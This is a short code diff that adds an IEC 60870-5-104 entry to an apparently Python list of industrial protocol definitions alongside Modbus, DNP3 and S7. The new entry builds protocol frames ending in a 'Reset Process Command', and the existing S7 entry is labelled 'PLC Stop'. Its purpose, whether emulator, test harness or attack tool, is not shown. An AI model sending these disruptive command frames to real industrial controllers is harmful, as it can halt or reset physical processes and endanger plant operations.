@@ -70,4 +70,22 @@ S7 = Plant("s7comm", 102, [
     (False, s7(3, 1, SETUP, error=b"\0\0")),
 ], s7(1, 2, STOP), s7(3, 2, b"\x29", error=b"\0\0"), "PLC Stop")
 
-PLANTS = [MODBUS, DNP3, S7]
+
+
+def apdu(send, receive, asdu):
+    body = struct.pack("<HH", send << 1, receive << 1) + asdu
+    return bytes([0x68, len(body)]) + body
+
+
+def control(octet):
+    return bytes([0x68, 4, octet, 0, 0, 0])
+
+
+IEC104 = Plant("iec104", 2404, [
+    (True, control(0x07)),
+    (False, control(0x0b)),
+    (True, apdu(0, 0, bytes.fromhex("6401060001000000 0014"))),
+    (False, apdu(0, 1, bytes.fromhex("6401070001000000 0014"))),
+], apdu(1, 1, bytes.fromhex("6901060001000000 0001")), apdu(1, 2, bytes.fromhex("6901070001000000 0001")), "Reset Process Command")
+
+PLANTS = [MODBUS, DNP3, S7, IEC104]
